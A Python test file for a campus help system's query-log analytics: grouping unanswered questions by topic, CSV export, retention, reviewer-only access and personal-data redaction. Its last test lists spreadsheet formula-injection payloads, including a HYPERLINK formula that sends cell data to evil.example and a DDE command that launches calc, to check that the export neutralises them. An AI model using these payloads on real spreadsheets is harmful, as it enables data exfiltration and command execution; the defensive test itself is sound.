"""Insights from a real query log over a real index: knowledge gaps grouped by topic with the real
model, the CSV contract, retention, no usernames, and the role check."""

from __future__ import annotations

import csv
import json
import time

import pytest

from governance.identity import Identity, PermissionDenied
from governance.insights import Insights, knowledge_gaps, overview, read_log, write_gaps_csv
from governance.tickets import TicketStore

REVIEWER = Identity("local:rev", "rev", "reviewer")
STUDENT = Identity("local:stu", "stu", "user")
HOSTEL = [
    "What time does the hostel gate close at night?",
    "When is the hostel curfew?",
    "Can hostel residents come back after the night curfew?",
]
PARKING = ["Where can students park their cars on campus?", "Is there a parking permit for student cars?"]


def _line(query: str, decision: str, sigma: float, days_ago: float = 0, sources=()) -> str:
    ts = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - days_ago * 86400))
    return json.dumps(
        {
            "ts": ts,
            "actor": "user-hash-123",
            "session": "s",
            "query": query,
            "decision": decision,
            "sigma": sigma,
            "tau": 0.42,
            "sources": list(sources),
            "timings_ms": {"total": 20.0},
        }
    )


@pytest.fixture()
def log(tiny_engine):
    path = tiny_engine.config.query_log_path
    fee_chunk = tiny_engine.index.get_nodes(where={"doc_id": "fees"})[0].node_id
    lines = [_line(q, "abstain", 0.2) for q in HOSTEL + PARKING]
    lines += [
        _line("What is the revaluation fee?", "answer", 0.8, sources=[fee_chunk]),
        _line("An old hostel question asked long ago", "abstain", 0.1, days_ago=400),
        _line("", "abstain", 0.1),
    ]  # a forgotten user's line
    path.write_text("\n".join(lines) + "\nnot json\n", encoding="utf-8")
    return path


def test_gaps_group_abstained_questions_by_topic_largest_first(tiny_engine, log, tmp_path):
    groups = knowledge_gaps(log, tiny_engine.index, retention_days=365)
    assert [g.size for g in groups] == sorted((g.size for g in groups), reverse=True)
    by_question = {q.question: g.group_id for g in groups for q in g.questions}
    assert len({by_question[q] for q in HOSTEL}) == 1
    assert len({by_question[q] for q in PARKING}) == 1
    assert by_question[HOSTEL[0]] != by_question[PARKING[0]]
    assert "An old hostel question asked long ago" not in by_question  # outside retention
    assert all(q.nearest_section for g in groups for q in g.questions)

    out = tmp_path / "gaps.csv"
    assert write_gaps_csv(groups, out) == len(HOSTEL) + len(PARKING)
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0]) == ["group_id", "group_size", "question", "sigma", "nearest_section"]
    assert rows[0]["group_id"] == "1" and rows[0]["group_size"] == str(len(HOSTEL))
    assert "user-hash-123" not in out.read_text(encoding="utf-8")


def test_overview_counts_decisions_sigma_latency_and_citations(log):
    data = overview(read_log(log))
    assert data["turns"] == 8
    day = data["days"][-1]
    assert data["by_day"][day]["abstain"] >= 5 and data["by_day"][day]["answer"] == 1
    assert data["tau"] == 0.42 and data["latency_p50"] == 20.0
    assert data["top_documents"][0][0] == "fees"


def test_retention_prunes_old_lines_and_only_reviewers_see_insights(tiny_engine, log):
    insights = Insights(
        tiny_engine.index, TicketStore(tiny_engine.config.home / "tickets.json"), log, retention_days=30
    )
    assert "long ago" not in log.read_text(encoding="utf-8")
    assert insights.overview(REVIEWER)["turns"] == 7
    with pytest.raises(PermissionDenied):
        insights.overview(STUDENT)
    with pytest.raises(PermissionDenied):
        insights.gaps(STUDENT)


# -- issue 27: what reviewers see of other users' questions ---------------------------------------

PERSONAL = [
    ("I am CS21B1034, mail me at priya.sharma@example.edu: can I defer my exam?", ["CS21B1034", "priya.sharma"]),
    ("My name is Priya Sharma, call +91 98765 43210 about the hostel curfew", ["Priya", "98765"]),
    ("Born 12/03/2004, roll number 2104567890: is the late fee waived?", ["12/03/2004", "2104567890"]),
]


def test_reviewers_see_questions_without_obvious_personal_data(tiny_engine, tmp_path):
    """Finding 8: numbers, e-mail addresses and identifiers are taken out of the gap questions,
    the table and the CSV alike; the topic (and amounts such as Rs. 5,000) stays."""
    path = tiny_engine.config.query_log_path
    questions = [q for q, _ in PERSONAL] + ["Is the Rs. 5,000 hostel deposit refundable in 30 days?"]
    path.write_text("\n".join(_line(q, "abstain", 0.2) for q in questions) + "\n", encoding="utf-8")
    groups = knowledge_gaps(path, tiny_engine.index)
    shown = " ".join(q.question for g in groups for q in g.questions)
    out = tmp_path / "gaps.csv"
    write_gaps_csv(groups, out)
    for text in (shown, out.read_text(encoding="utf-8")):
        for _, personal in PERSONAL:
            assert not [p for p in personal if p in text], text
        assert "hostel curfew" in text and "Rs. 5,000" in text and "30 days" in text


def test_the_csv_export_neutralises_formulas(tmp_path):
    """Finding 7: a question that starts like a formula opens as text in a spreadsheet."""
    from governance.insights import GapGroup, GapQuestion

    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1,"fee")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "  =1+1",
        "\t=1+1",
    ]
    groups = [GapGroup(1, [GapQuestion(q, 0.2, "2026-01-01T00:00:00Z", "fees §2") for q in hostile])]
    out = tmp_path / "gaps.csv"
    write_gaps_csv(groups, out)
    cells = [row["question"] for row in csv.DictReader(out.open(encoding="utf-8", newline=""))]
    assert cells == ["'" + q for q in hostile]
